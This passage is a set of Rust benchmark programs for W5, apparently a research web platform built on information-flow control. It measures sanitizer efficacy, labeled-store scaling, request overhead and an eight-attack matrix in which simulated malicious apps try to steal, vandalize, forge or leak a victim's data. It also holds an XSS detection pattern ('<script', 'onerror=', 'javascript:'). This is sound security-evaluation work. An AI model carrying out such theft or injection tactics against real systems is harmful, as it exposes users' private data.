fn hostile_survives(clean: &str) -> bool {
    let lower: String = clean
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    lower.contains("<script") || lower.contains("onerror=") || lower.contains("javascript:")
}

fn main() {
    w5_bench::banner("E10", "perimeter JS filter: efficacy and throughput", "§3.5");

    let mut rng = StdRng::seed_from_u64(2007);
    let kinds = ["clean", "script tag", "event handler", "js: url"];
    let mut table = Table::new(["page kind", "pages", "blocked payloads", "missed", "MB/s"]);

    for (kind, name) in kinds.iter().enumerate() {
        let corpus: Vec<(String, bool)> =
            (0..200).map(|_| gen_page(&mut rng, kind, 40)).collect();
        let total_bytes: usize = corpus.iter().map(|(h, _)| h.len()).sum();

        let t = std::time::Instant::now();
        let mut removed = 0usize;
        let mut missed = 0usize;
        for (page, hostile) in &corpus {
            let (clean, stats) = sanitize_html(page);
            removed += stats.total();
            if *hostile && hostile_survives(&clean) {
                missed += 1;
            }
        }
        let elapsed = t.elapsed();
        table.row([
            name.to_string(),
            corpus.len().to_string(),
            removed.to_string(),
            missed.to_string(),
            format!("{:.1}", total_bytes as f64 / 1e6 / elapsed.as_secs_f64()),
        ]);
    }
    println!("{table}");

    // False-positive check: clean page content is preserved.
    let (clean_page, _) = gen_page(&mut rng, 0, 40);
    let (out, stats) = sanitize_html(&clean_page);
    println!(
        "clean-page fidelity: {} removals, {:.1}% of bytes preserved",
        stats.total(),
        100.0 * out.len() as f64 / clean_page.len() as f64
    );
    println!("shape check: 0 missed hostile payloads, 0 removals on clean pages, and");
    println!("             filtering throughput far above the HTTP front end's needs.");
}
