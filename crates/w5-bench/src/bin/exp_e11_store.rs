//! E11 — labeled store scaling (paper §2 storage path).
//!
//! Query latency versus table size and label diversity (how many distinct
//! users' rows share the table), for the W5 filtered store against the
//! naive unlabeled scan. The per-row label check is the marginal cost of
//! commingling everyone's data in one table — the aggregation-over-
//! isolation bet of §5.
//!
//! Since the storage engine became label-partitioned, every configuration
//! runs on both executors: **reference** (the seed per-row scan) and
//! **partitioned** (one flow check per partition, pruning, sorted-run
//! indexes). The rows/s column is the number the paper's bet depends on —
//! partitioning is what keeps the shared table competitive with per-user
//! silos as label diversity grows.

use std::sync::Arc;
use std::time::Duration;
use w5_difc::{Label, LabelPair, TagKind, TagRegistry};
use w5_store::{Database, QueryCost, QueryMode, Subject};
use w5_sim::Table;

fn build_db(db: &Database, rows: usize, users: usize, reg: &Arc<TagRegistry>) {
    let trusted = Subject::anonymous();
    db.execute(&trusted, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "CREATE TABLE items (n INTEGER, owner INTEGER)").unwrap();
    let labels: Vec<LabelPair> = (0..users)
        .map(|i| {
            let (t, _) = reg.create_tag(TagKind::ExportProtect, &format!("u{i}"));
            LabelPair::new(Label::singleton(t), Label::empty())
        })
        .collect();
    // Insert in batches per user (rows carry that user's label).
    let per_user = rows / users;
    for (u, l) in labels.iter().enumerate() {
        let mut remaining = per_user;
        let mut base = 0;
        while remaining > 0 {
            let chunk = remaining.min(500);
            let values: Vec<String> =
                (0..chunk).map(|i| format!("({}, {u})", base + i)).collect();
            db.execute(&trusted, QueryMode::Filtered, QueryCost::unlimited(), l,
                &format!("INSERT INTO items VALUES {}", values.join(","))).unwrap();
            remaining -= chunk;
            base += chunk;
        }
    }
}

fn main() {
    w5_bench::banner("E11", "labeled store: scan cost vs rows and label diversity", "§2, §5");
    let budget = Duration::from_millis(300);

    let mut table = Table::new([
        "rows",
        "distinct users",
        "executor",
        "mode",
        "scan latency",
        "rows/s",
    ]);

    for &(rows, users) in &[(1_000usize, 1usize), (10_000, 1), (10_000, 10), (10_000, 100), (50_000, 100)] {
        for (exec_name, db) in [("reference", Database::reference()), ("partitioned", Database::new())] {
            // A fresh registry per arm keeps tag allocation identical.
            let reg = Arc::new(TagRegistry::new());
            build_db(&db, rows, users, &reg);
            let reader = Subject::new(LabelPair::public(), reg.effective(&w5_difc::CapSet::empty()));
            for (mode_name, mode) in [("w5 filtered", QueryMode::Filtered), ("naive", QueryMode::Naive)] {
                let (iters, elapsed) = w5_bench::throughput(budget, || {
                    let out = db
                        .execute(&reader, mode, QueryCost::unlimited(), &LabelPair::public(),
                            "SELECT COUNT(*) FROM items WHERE n % 2 = 0")
                        .unwrap();
                    std::hint::black_box(out.scanned);
                });
                let per_scan = elapsed.as_secs_f64() / iters as f64;
                table.row([
                    rows.to_string(),
                    users.to_string(),
                    exec_name.to_string(),
                    mode_name.to_string(),
                    format!("{:.2}ms", per_scan * 1e3),
                    w5_bench::ops_per_sec(iters * rows as u64, elapsed),
                ]);
            }
        }
    }
    println!("{table}");
    println!("shape check: both executors scale linearly in rows here (every partition is");
    println!("             readable-with-taint, so nothing prunes); the partitioned engine's");
    println!("             win is one flow check per partition instead of per row. The");
    println!("             pruning and index wins are measured by bench_store_json.");
}
