//! E12 — the recommendation engine over private data (paper §2 Examples).
//!
//! The paper's flagship "impossible today" application: rank friends'
//! private posts for a daily digest, entirely inside the perimeter.
//! Measures end-to-end digest latency as the friend count and corpus
//! grow, and verifies the privacy outcome (the digest exports only when
//! every contributor's policy clears the viewer).

use bytes::Bytes;
use w5_platform::{GrantScope, Platform};
use w5_sim::{build_population, PopulationConfig, Table};

fn main() {
    w5_bench::banner("E12", "recommender digest over friends' private data", "§2 Examples");

    let mut table = Table::new([
        "users",
        "posts/user",
        "digest mean ms",
        "digest p99 ms",
        "export blocked w/o grants?",
    ]);

    for &(users, posts) in &[(10usize, 5usize), (25, 5), (25, 20), (50, 10)] {
        // World WITHOUT blanket grants: verify the blocked case first.
        let bare = build_population(
            Platform::new_default("bare"),
            PopulationConfig {
                users,
                posts_per_user: posts,
                grant_friends_only: false,
                ..Default::default()
            },
        );
        let viewer = &bare.accounts[0];
        let prefs = Platform::make_request("POST", "prefs", &[("keywords", "jazz")], Some(viewer), Bytes::new());
        assert_eq!(bare.platform.invoke(Some(viewer), "devD/recommender", prefs).status, 200);
        let digest = Platform::make_request("GET", "digest", &[("n", "5")], Some(viewer), Bytes::new());
        let blocked = bare.platform.invoke(Some(viewer), "devD/recommender", digest).status == 403;

        // World WITH friends-only grants: measure latency.
        let world = build_population(
            Platform::new_default("granted"),
            PopulationConfig { users, posts_per_user: posts, ..Default::default() },
        );
        // Grant-all so the digest always exports regardless of topology.
        for a in &world.accounts {
            world
                .platform
                .policies
                .grant_declassifier(a.id, "public-read", GrantScope::App("devD/recommender".into()));
        }
        let viewer = world.accounts[0].clone();
        let prefs = Platform::make_request("POST", "prefs", &[("keywords", "jazz")], Some(&viewer), Bytes::new());
        assert_eq!(world.platform.invoke(Some(&viewer), "devD/recommender", prefs).status, 200);

        let h = w5_bench::measure(3, 50, || {
            let digest =
                Platform::make_request("GET", "digest", &[("n", "5")], Some(&viewer), Bytes::new());
            let r = world.platform.invoke(Some(&viewer), "devD/recommender", digest);
            assert_eq!(r.status, 200, "{:?}", String::from_utf8_lossy(&r.body));
        });

        table.row([
            users.to_string(),
            posts.to_string(),
            format!("{:.2}", h.mean_ns() / 1e6),
            format!("{:.2}", h.percentile_ns(0.99) as f64 / 1e6),
            if blocked { "yes (403)" } else { "NO — BUG" }.to_string(),
        ]);
    }

    println!("{table}");
    println!("shape check: latency scales with friends x posts scanned; without contributor");
    println!("             grants the digest is blocked at the perimeter, with them it flows.");
}
