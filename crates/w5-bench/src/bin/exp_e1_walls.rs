//! E1 — Figure 1 vs Figure 2, made executable.
//!
//! Measures the two costs §1 attributes to the walled web: **data
//! fragmentation** (copies of the same user datum across applications) and
//! the **barrier to entry** (user operations to adopt the Nth
//! application). Under the silo model both grow linearly with the number
//! of applications; under W5 the datum has one copy and adoption is one
//! enrollment ("checking a box", §1).

use bytes::Bytes;
use w5_baseline::silo::SiloedWeb;
use w5_platform::Platform;
use w5_sim::Table;

fn main() {
    w5_bench::banner("E1", "data copies and onboarding cost vs number of apps", "Fig.1 vs Fig.2, §1");

    let app_counts = [1usize, 2, 4, 8, 16];
    let mut table = Table::new([
        "apps",
        "silo copies/datum",
        "silo user ops",
        "w5 copies/datum",
        "w5 user ops",
    ]);

    for &apps in &app_counts {
        // --- Silo arm: one site per app, everything re-done per site.
        let web = SiloedWeb::new();
        for i in 0..apps {
            let site = format!("app{i}.example");
            web.create_site(&site);
            web.register(&site, "bob", "pw").unwrap();
            web.upload(&site, "bob", "pw", "preferences", "jazz,scifi,noodles").unwrap();
            web.upload(&site, "bob", "pw", "photo0", "W5IMG…").unwrap();
        }
        let silo_copies = web.copies_of("bob", "preferences");
        let silo_effort = web.effort("bob");
        let silo_ops = silo_effort.registrations + silo_effort.uploads;

        // --- W5 arm: one account, one upload, then N one-checkbox enrolls.
        let platform = Platform::new_default("w5");
        w5_apps::install_all(&platform);
        let bob = platform.accounts.register("bob", "pw").unwrap();
        let mut w5_ops = 1; // the single registration
        platform.policies.delegate_write(bob.id, "devA/photos");
        // Upload once, through the real photo app.
        let req = Platform::make_request(
            "POST",
            "upload",
            &[("name", "photo0"), ("w", "8"), ("h", "8")],
            Some(&bob),
            Bytes::new(),
        );
        assert_eq!(platform.invoke(Some(&bob), "devA/photos", req).status, 200);
        w5_ops += 1; // the single upload
        for i in 0..apps {
            // Each additional app is one enrollment action — the data is
            // already there.
            platform.policies.enroll(bob.id, &format!("dev{i}/whatever"));
            w5_ops += 1;
        }
        let w5_copies = 1; // the fs holds exactly one labeled copy

        table.row([
            apps.to_string(),
            silo_copies.to_string(),
            silo_ops.to_string(),
            w5_copies.to_string(),
            w5_ops.to_string(),
        ]);
    }

    println!("{table}");
    println!("shape check: silo ops grow ~3x per app (register+2 uploads); W5 adds 1 op per app");
    println!("             silo stores one copy of the datum per app; W5 always stores one.");
}
