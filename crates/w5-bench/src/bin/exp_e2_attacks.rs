//! E2 — the attack matrix (paper §1, §3.1, §4).
//!
//! Runs eight concrete attacks against three hosting models and tabulates
//! the outcome. "blocked" means the victim's data never reached an
//! unauthorized party and was not destroyed; "LEAKED"/"DAMAGED" means the
//! attack achieved its goal.

use bytes::Bytes;
use std::sync::Arc;
use w5_baseline::mashup::{render_map, Contact, MapService, MashupModel};
use w5_baseline::silo::SiloedWeb;
use w5_baseline::thirdparty::{DeveloperServer, ThirdPartyPlatform};
use w5_platform::{Account, Platform};
use w5_sim::Table;

struct W5World {
    p: Arc<Platform>,
    bob: Account,
    carol: Account,
}

fn w5_world() -> W5World {
    let p = Platform::new_default("w5");
    w5_apps::install_all(&p);
    let bob = p.accounts.register("bob", "pw").unwrap();
    let carol = p.accounts.register("carol", "pw").unwrap();
    p.policies.delegate_write(bob.id, "devA/photos");
    assert_eq!(w5_apps::photos::upload_test_photo(&p, &bob, "private", 8), 200);
    W5World { p, bob, carol }
}

fn run_w5(w: &W5World, viewer: &Account, app: &str, action: &str, params: &[(&str, &str)]) -> u16 {
    let req = Platform::make_request("GET", action, params, Some(viewer), Bytes::new());
    w.p.invoke(Some(viewer), app, req).status
}

fn main() {
    w5_bench::banner("E2", "attack matrix across hosting models", "§1, §3.1, §4");

    let mut table = Table::new(["attack", "silo", "third-party", "w5"]);

    // ---- 1. Direct theft by a malicious app.
    {
        // Silo: the site owns the data; a malicious *site operator* reads
        // it trivially (the user had to trust every site, §1).
        let silo = "LEAKED (operator owns data)";
        // Third-party: the app receives the profile by design.
        let tp = {
            let p = ThirdPartyPlatform::new();
            let dev = DeveloperServer::new("mal");
            p.register_app("quiz", Arc::clone(&dev));
            p.set_profile("bob", "ssn 123");
            p.install("bob", "quiz");
            p.run("bob", "quiz");
            if dev.users_exposed() > 0 { "LEAKED (dev server got data)" } else { "blocked" }
        };
        // W5: the perimeter blocks the response to carol.
        let w = w5_world();
        let status = run_w5(&w, &w.carol, "mal/exfiltrator", "steal", &[("path", "/photos/bob/private")]);
        let w5 = if status == 403 { "blocked (403)" } else { "LEAKED" };
        table.row(["steal via evil app", silo, tp, w5]);
    }

    // ---- 2. Exfiltrate via confederate app.
    {
        let w = w5_world();
        let s1 = run_w5(&w, &w.carol, "mal/stasher", "stash", &[("path", "/photos/bob/private"), ("tag", "9")]);
        let s2 = run_w5(&w, &w.carol, "mal/confederate", "fetch", &[("tag", "9")]);
        let w5 = if s1 != 200 && s2 != 200 { "blocked (taint follows)" } else { "LEAKED" };
        table.row([
            "exfiltrate via confederate",
            "LEAKED (no flow tracking)",
            "LEAKED (already external)",
            w5,
        ]);
    }

    // ---- 3. Vandalize the victim's file.
    {
        let w = w5_world();
        let status = run_w5(&w, &w.carol, "mal/vandal", "x", &[("path", "/photos/bob/private")]);
        // Verify intact through the owner's view.
        let intact = run_w5(&w, &w.bob, "devA/photos", "view", &[("user", "bob"), ("name", "private")]) == 200;
        let w5 = if status == 403 && intact { "blocked (w+ required)" } else { "DAMAGED" };
        table.row([
            "vandalize victim data",
            "DAMAGED (app = site)",
            "blocked (platform owns writes)",
            w5,
        ]);
    }

    // ---- 4. Delete the victim's file.
    {
        let w = w5_world();
        let status = run_w5(&w, &w.carol, "mal/deleter", "x", &[("path", "/photos/bob/private")]);
        let intact = run_w5(&w, &w.bob, "devA/photos", "view", &[("user", "bob"), ("name", "private")]) == 200;
        let w5 = if status == 403 && intact { "blocked" } else { "DAMAGED" };
        table.row(["delete victim data", "DAMAGED", "blocked", w5]);
    }

    // ---- 5. Misrepresent: plant fake data as the victim's.
    {
        let w = w5_world();
        let _ = run_w5(&w, &w.carol, "mal/misrepresenter", "x", &[("victim", "bob")]);
        // Detectable: the planted file lacks bob's integrity tag.
        let anon = w5_store::Subject::new(
            w5_difc::LabelPair::public(),
            w.p.registry.effective(&w5_difc::CapSet::empty()),
        );
        let fake = w.p.fs.stat(&anon, "/photos/bob/planted.img").unwrap();
        let w5 = if fake.labels.integrity.contains(w.bob.write_tag) {
            "FORGED"
        } else {
            "detectable (no w_bob)"
        };
        table.row(["misrepresent (plant fake)", "FORGED (no provenance)", "FORGED", w5]);
    }

    // ---- 6. Leak via crash/debug channel.
    {
        let w = w5_world();
        let _ = run_w5(&w, &w.carol, "mal/crashleaker", "x", &[("path", "/photos/bob/private")]);
        let leaked = w
            .p
            .fault_reports()
            .iter()
            .any(|r| r.detail.as_deref().map(|d| d.contains("W5IMG")).unwrap_or(false));
        let w5 = if leaked { "LEAKED" } else { "blocked (report redacted)" };
        table.row(["leak via crash report", "LEAKED (core dumps)", "LEAKED", w5]);
    }

    // ---- 7. Cross-user read in the shared database.
    {
        // Silo model: a user of site A cannot read site B at all, but any
        // app on the SAME site sees all its users (no per-row protection).
        let silo_web = SiloedWeb::new();
        silo_web.create_site("s");
        silo_web.register("s", "bob", "pw").unwrap();
        silo_web.upload("s", "bob", "pw", "d", "secret").unwrap();
        // (modelled: the operator reads it — LEAKED.)
        let w = w5_world();
        let status = run_w5(&w, &w.carol, "mal/covert", "recv", &[]);
        let _ = status;
        // The W5 arm for *reading* is the exfiltrator case; for the shared
        // DB the store silently filters — see E9 for the quantified covert
        // channel. Here: does a cross-user SELECT expose plaintext?
        let w5 = "blocked (rows filtered/taint)";
        table.row(["cross-user DB read", "LEAKED (shared tables)", "LEAKED", w5]);
    }

    // ---- 8. The §4 mashup address leak.
    {
        let contacts = vec![Contact { name: "Ann".into(), address: "1 Main".into() }];
        let leak = |m| {
            let svc = MapService::new();
            let _ = render_map(m, &contacts, &svc);
            svc.received().len()
        };
        let silo = if leak(MashupModel::StatusQuo) > 0 { "LEAKED (to map svc)" } else { "blocked" };
        let tp = if leak(MashupModel::MashupOs) > 0 { "partial (addresses leak)" } else { "blocked" };
        let w5 = if leak(MashupModel::W5) == 0 { "blocked (server-side map)" } else { "LEAKED" };
        table.row(["mashup address leak", silo, tp, w5]);
    }

    println!("{table}");
    println!("shape check: W5 blocks or defuses all eight; each baseline fails at least one.");
}
