//! E3 — DIFC microbenchmarks (paper §3.1 mechanism cost).
//!
//! The cost of the primitive operations everything else pays for: tag
//! creation, label set algebra at growing label sizes, flow checks,
//! privileged flow checks, and wire encoding. Criterion variants live in
//! `benches/bench_difc.rs`; this binary prints the summary table.

use std::sync::Arc;
use std::time::Duration;
use w5_difc::{can_flow, can_flow_with, wire, CapSet, Label, LabelPair, Tag, TagKind, TagRegistry};
use w5_sim::Table;

fn label(n: usize, offset: u64) -> Label {
    Label::from_iter((0..n as u64).map(|i| Tag::from_raw(offset + i * 2 + 1)))
}

fn main() {
    w5_bench::banner("E3", "DIFC primitive costs", "§3.1");
    let budget = Duration::from_millis(200);

    let mut table = Table::new(["operation", "label size", "rate", "ns/op"]);

    // Tag creation.
    {
        let reg = Arc::new(TagRegistry::new());
        let (iters, elapsed) = w5_bench::throughput(budget, || {
            let _ = std::hint::black_box(reg.create_tag(TagKind::ExportProtect, "u"));
        });
        table.row([
            "create_tag".to_string(),
            "-".to_string(),
            w5_bench::ops_per_sec(iters, elapsed),
            format!("{:.0}", elapsed.as_nanos() as f64 / iters as f64),
        ]);
    }

    for &n in &[1usize, 4, 16, 64, 256, 1024, 4096] {
        let a = label(n, 1);
        let b = label(n, 3); // interleaved, mostly disjoint
        let sup = a.union(&b);

        type Op<'a> = (&'a str, Box<dyn FnMut()>);
        let ops: [Op; 4] = [
            ("subset (hit)", {
                let a = a.clone();
                let sup = sup.clone();
                Box::new(move || {
                    std::hint::black_box(a.is_subset(&sup));
                })
            }),
            ("subset (miss)", {
                let a = a.clone();
                let b = b.clone();
                Box::new(move || {
                    std::hint::black_box(a.is_subset(&b));
                })
            }),
            ("union", {
                let a = a.clone();
                let b = b.clone();
                Box::new(move || {
                    std::hint::black_box(a.union(&b));
                })
            }),
            ("flow check (raw)", {
                let a = a.clone();
                let sup = sup.clone();
                Box::new(move || {
                    std::hint::black_box(can_flow(&a, &sup));
                })
            }),
        ];
        for (name, mut f) in ops {
            let (iters, elapsed) = w5_bench::throughput(budget, &mut f);
            table.row([
                name.to_string(),
                n.to_string(),
                w5_bench::ops_per_sec(iters, elapsed),
                format!("{:.0}", elapsed.as_nanos() as f64 / iters as f64),
            ]);
        }
    }

    // Privileged flow with a capability set.
    {
        let a = label(16, 1);
        let caps = CapSet::from_caps(a.iter().map(w5_difc::Capability::minus));
        let empty = CapSet::empty();
        let (iters, elapsed) = w5_bench::throughput(budget, || {
            let _ = std::hint::black_box(can_flow_with(&a, &caps, &Label::empty(), &empty));
        });
        table.row([
            "flow check (privileged)".to_string(),
            "16".to_string(),
            w5_bench::ops_per_sec(iters, elapsed),
            format!("{:.0}", elapsed.as_nanos() as f64 / iters as f64),
        ]);
    }

    // Wire encode/decode.
    {
        let pair = LabelPair::new(label(16, 1), label(2, 1001));
        let bytes = wire::pair_to_bytes(&pair);
        let (iters, elapsed) = w5_bench::throughput(budget, || {
            std::hint::black_box(wire::pair_to_bytes(&pair));
        });
        table.row([
            "wire encode".to_string(),
            "16+2".to_string(),
            w5_bench::ops_per_sec(iters, elapsed),
            format!("{:.0}", elapsed.as_nanos() as f64 / iters as f64),
        ]);
        let (iters, elapsed) = w5_bench::throughput(budget, || {
            let _ = std::hint::black_box(wire::pair_from_bytes(&bytes));
        });
        table.row([
            "wire decode".to_string(),
            "16+2".to_string(),
            w5_bench::ops_per_sec(iters, elapsed),
            format!("{:.0}", elapsed.as_nanos() as f64 / iters as f64),
        ]);
    }

    println!("{table}");
    println!("shape check: small-label checks are tens of ns (well under request costs);");
    println!("             set ops scale linearly with label size.");
}
