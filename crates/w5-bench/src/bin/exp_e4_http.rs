//! E4 — end-to-end request cost: the DIFC tax (paper §2).
//!
//! Drives the same workload mix through (a) the full W5 platform and
//! (b) the identical platform with IFC disabled (the `w5-baseline`
//! control arm), both in-process (launcher + kernel + store + perimeter)
//! and over real HTTP. Flume (SOSP 2007), the substrate the paper names,
//! reported roughly 30–45% slowdown on a web workload; the shape to check
//! is "same order of magnitude, modest constant tax".

use bytes::Bytes;
use std::sync::Arc;
use w5_net::{Server, ServerConfig};
use w5_platform::{Gateway, Platform};
use w5_sim::workload::{generate, MixWeights};
use w5_sim::{build_population, Histogram, PopulationConfig, Table};

fn run_inprocess(world: &w5_sim::World, reqs: &[w5_sim::workload::GenRequest]) -> Histogram {
    let mut h = Histogram::new();
    for r in reqs {
        let params: Vec<(&str, &str)> =
            r.params.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let viewer = &world.accounts[r.viewer];
        let req = Platform::make_request(r.method, r.action, &params, Some(viewer), Bytes::new());
        let t = std::time::Instant::now();
        let out = world.platform.invoke(Some(viewer), &r.app, req);
        h.record(t.elapsed());
        assert!(out.status == 200 || out.status == 403, "status {}", out.status);
    }
    h
}

fn run_http(world: &w5_sim::World, reqs: &[w5_sim::workload::GenRequest]) -> Histogram {
    let gateway = Gateway::new(Arc::clone(&world.platform));
    let server = Server::start("127.0.0.1:0", ServerConfig::default(), Arc::new(gateway)).unwrap();
    let addr = server.addr();
    let client = w5_net::HttpClient::new();

    // Log every user in over real HTTP once.
    let mut cookies = Vec::new();
    for a in &world.accounts {
        let body = format!("user={}&password=pw", a.username);
        let resp = client
            .post(addr, "/login", "application/x-www-form-urlencoded", body.as_bytes())
            .unwrap();
        let c = w5_platform::session_cookie_of(&resp).expect("cookie");
        cookies.push(format!("{}={}", w5_platform::SESSION_COOKIE, c.value));
    }

    let mut h = Histogram::new();
    for r in reqs {
        let qs: String = r
            .params
            .iter()
            .map(|(k, v)| format!("{}={}", k, v.replace(' ', "+")))
            .collect::<Vec<_>>()
            .join("&");
        let path = if qs.is_empty() {
            format!("/app/{}/{}", r.app, r.action)
        } else {
            format!("/app/{}/{}?{}", r.app, r.action, qs)
        };
        let headers = [("cookie", cookies[r.viewer].as_str())];
        let t = std::time::Instant::now();
        let resp = if r.method == "GET" {
            client.get_with_headers(addr, &path, &headers).unwrap()
        } else {
            client
                .post_with_headers(addr, &path, "application/x-www-form-urlencoded", b"", &headers)
                .unwrap()
        };
        h.record(t.elapsed());
        assert!(resp.status.0 == 200 || resp.status.0 == 403, "{}", resp.status.0);
    }
    server.shutdown();
    h
}

fn main() {
    w5_bench::banner("E4", "end-to-end request latency: W5 vs no-IFC platform", "§2; Flume SOSP'07 eval style");
    let pop = PopulationConfig { users: 20, ..Default::default() };
    let n_requests = 2000;

    // Two identical worlds, one enforced, one not.
    let w5_world = build_population(Platform::new_default("w5"), pop);
    let control_world = build_population(w5_baseline::no_ifc_platform("control"), pop);

    let reqs_w5 = generate(&w5_world, MixWeights::default(), n_requests, 99);
    let reqs_ctl = generate(&control_world, MixWeights::default(), n_requests, 99);

    let mut table = Table::new(["arm", "mean us", "p50 us", "p99 us", "throughput"]);
    let mut rows = Vec::new();
    for (name, world, reqs) in [
        ("w5 (in-process)", &w5_world, &reqs_w5),
        ("no-ifc (in-process)", &control_world, &reqs_ctl),
    ] {
        let h = run_inprocess(world, reqs);
        rows.push((name.to_string(), h.mean_ns()));
        table.row([
            name.to_string(),
            format!("{:.1}", h.mean_ns() / 1e3),
            format!("{:.1}", h.percentile_ns(0.5) as f64 / 1e3),
            format!("{:.1}", h.percentile_ns(0.99) as f64 / 1e3),
            w5_bench::ops_per_sec(h.count(), std::time::Duration::from_nanos((h.mean_ns() * h.count() as f64) as u64)),
        ]);
    }
    for (name, world, reqs) in [
        ("w5 (http)", &w5_world, &reqs_w5),
        ("no-ifc (http)", &control_world, &reqs_ctl),
    ] {
        let h = run_http(world, reqs);
        rows.push((name.to_string(), h.mean_ns()));
        table.row([
            name.to_string(),
            format!("{:.1}", h.mean_ns() / 1e3),
            format!("{:.1}", h.percentile_ns(0.5) as f64 / 1e3),
            format!("{:.1}", h.percentile_ns(0.99) as f64 / 1e3),
            w5_bench::ops_per_sec(h.count(), std::time::Duration::from_nanos((h.mean_ns() * h.count() as f64) as u64)),
        ]);
    }
    println!("{table}");

    let tax_inproc = rows[0].1 / rows[1].1;
    let tax_http = rows[4 - 2].1 / rows[3].1;
    println!("IFC tax, in-process: {:.2}x   over HTTP: {:.2}x", tax_inproc, tax_http);
    println!("shape check: modest constant-factor tax (Flume reported ~1.3-1.45x on web workloads);");
    println!("             the tax shrinks over HTTP because network framing dominates.");
}
