//! E5 — the audit surface (paper §3.1).
//!
//! "Because declassifiers are typically much smaller than entire
//! applications, they are easier to audit." This harness measures it on
//! our own codebase: source lines of each declassifier's decision logic
//! vs source lines of each application it guards, plus the per-user trust
//! footprint (what a casual user must trust beyond the provider).

use w5_bench::metrics::{write_metrics, AuditSurfaceMetrics, NamedLines};
use w5_platform::Platform;
use w5_sim::Table;

fn main() {
    w5_bench::banner("E5", "audit surface: declassifiers vs applications", "§3.1");

    let platform = Platform::new_default("audit");
    w5_apps::install_all(&platform);

    // Applications and their source sizes.
    let mut apps_table = Table::new(["application", "source lines"]);
    let app_keys = ["devA/photos", "devB/blog", "devC/social", "devD/recommender", "devD/dating"];
    let mut app_lines = Vec::new();
    let mut apps = Vec::new();
    for key in app_keys {
        let lines = platform.app_impl(key).map(|a| a.source_lines()).unwrap_or(0);
        app_lines.push(lines);
        apps.push(NamedLines { name: key.to_string(), lines: lines as u64 });
        apps_table.row([key.to_string(), lines.to_string()]);
    }
    println!("{apps_table}");

    // Declassifiers.
    let mut d_table = Table::new(["declassifier", "decision lines", "guards any app?"]);
    let mut decl_lines = Vec::new();
    let mut declassifiers = Vec::new();
    for (name, _desc, lines) in platform.declassifiers.list() {
        decl_lines.push(lines);
        declassifiers.push(NamedLines { name: name.to_string(), lines: lines as u64 });
        d_table.row([name.to_string(), lines.to_string(), "yes (data-agnostic)".to_string()]);
    }
    println!("{d_table}");

    let avg_app = app_lines.iter().sum::<usize>() as f64 / app_lines.len() as f64;
    let avg_decl = decl_lines.iter().sum::<usize>() as f64 / decl_lines.len() as f64;

    let metrics = AuditSurfaceMetrics {
        apps,
        declassifiers,
        avg_app_lines: avg_app,
        avg_declassifier_lines: avg_decl,
        ratio: avg_app / avg_decl,
    };
    match write_metrics("e5_audit", &metrics) {
        Ok(path) => println!("metrics: {}", path.display()),
        Err(e) => {
            eprintln!("failed to write metrics artifact: {e}");
            std::process::exit(1);
        }
    }
    println!("average application size: {avg_app:.0} lines");
    println!("average declassifier decision logic: {avg_decl:.0} lines");
    println!("audit-surface ratio (app/declassifier): {:.0}x", avg_app / avg_decl);
    println!();
    println!(
        "casual-user trust footprint: provider + {} declassifier lines total,",
        decl_lines.iter().sum::<usize>()
    );
    println!(
        "versus auditing every application they use ({} lines for the five here).",
        app_lines.iter().sum::<usize>()
    );
    println!("shape check: declassifiers are 1-2 orders of magnitude smaller than apps.");
}
