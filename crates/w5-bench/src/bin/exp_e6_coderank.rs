//! E6 — CodeRank quality and convergence (paper §3.2).
//!
//! On synthetic dependency graphs with a planted trustworthy core and a
//! self-promoting spam ring: how well do CodeRank and the naive
//! popularity (in-degree) baseline surface the core, and how does
//! convergence scale with graph size and tolerance?

use w5_coderank::{coderank, popularity, RankParams};
use w5_sim::depgraph::{generate, precision_at_k, DepGraphConfig};
use w5_sim::Table;

fn main() {
    w5_bench::banner("E6", "CodeRank vs popularity on planted-core graphs", "§3.2");

    // --- Ranking quality sweep over spam intensity.
    let mut quality = Table::new([
        "spam modules",
        "spam ring deg",
        "coderank p@10",
        "popularity p@10",
        "iterations",
    ]);
    for &(spam, ring) in &[(10usize, 5usize), (50, 20), (100, 40), (200, 60)] {
        let world = generate(DepGraphConfig { spam, spam_ring: ring, ..Default::default() });
        let rank = coderank(&world.graph, RankParams::default());
        let cr = precision_at_k(&world.graph, &rank.ranking(), &world.core, 10);
        let pop = precision_at_k(&world.graph, &popularity(&world.graph), &world.core, 10);
        quality.row([
            spam.to_string(),
            ring.to_string(),
            format!("{cr:.2}"),
            format!("{pop:.2}"),
            rank.iterations.to_string(),
        ]);
    }
    println!("{quality}");

    // --- Convergence: iterations and wall time vs graph size.
    let mut conv = Table::new(["modules", "edges", "iterations", "time/run", "rate (edges/s)"]);
    for &apps in &[100usize, 1_000, 10_000, 50_000] {
        let world = generate(DepGraphConfig {
            core: 20,
            apps,
            spam: apps / 10,
            spam_ring: 10,
            seed: 1,
        });
        let t = std::time::Instant::now();
        let rank = coderank(&world.graph, RankParams::default());
        let elapsed = t.elapsed();
        conv.row([
            world.graph.node_count().to_string(),
            world.graph.edge_count().to_string(),
            rank.iterations.to_string(),
            format!("{:.2}ms", elapsed.as_secs_f64() * 1e3),
            w5_bench::ops_per_sec(
                (world.graph.edge_count() * rank.iterations) as u64,
                elapsed,
            ),
        ]);
        assert!(rank.converged);
    }
    println!("{conv}");

    // --- Tolerance sweep.
    let world = generate(DepGraphConfig { apps: 5_000, ..Default::default() });
    let mut tol = Table::new(["epsilon", "iterations", "p@10"]);
    for &eps in &[1e-3, 1e-6, 1e-9, 1e-12] {
        let rank = coderank(&world.graph, RankParams { epsilon: eps, ..Default::default() });
        tol.row([
            format!("{eps:.0e}"),
            rank.iterations.to_string(),
            format!("{:.2}", precision_at_k(&world.graph, &rank.ranking(), &world.core, 10)),
        ]);
    }
    println!("{tol}");

    println!("shape check: coderank p@10 stays ~1.0 while popularity degrades as the spam ring");
    println!("             grows; iterations grow slowly (log-ish) with size and tolerance.");
}
