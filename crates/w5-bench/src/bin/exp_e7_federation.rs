//! E7 — multi-provider mirroring (paper §3.3).
//!
//! Two providers on loopback TCP; a linked user's data mirrors through
//! the import/export declassifiers. Measures propagation latency per sync
//! round, wire bytes, and convergence behaviour as the dataset grows.

use bytes::Bytes;
use std::sync::Arc;
use w5_federation::service::opt_in;
use w5_federation::{AccountLink, FederationService, SyncAgent};
use w5_net::{Server, ServerConfig};
use w5_platform::Platform;
use w5_store::Subject;
use w5_sim::Table;

const TOKEN: &str = "peer-secret";

fn main() {
    w5_bench::banner("E7", "provider-to-provider mirror throughput", "§3.3");

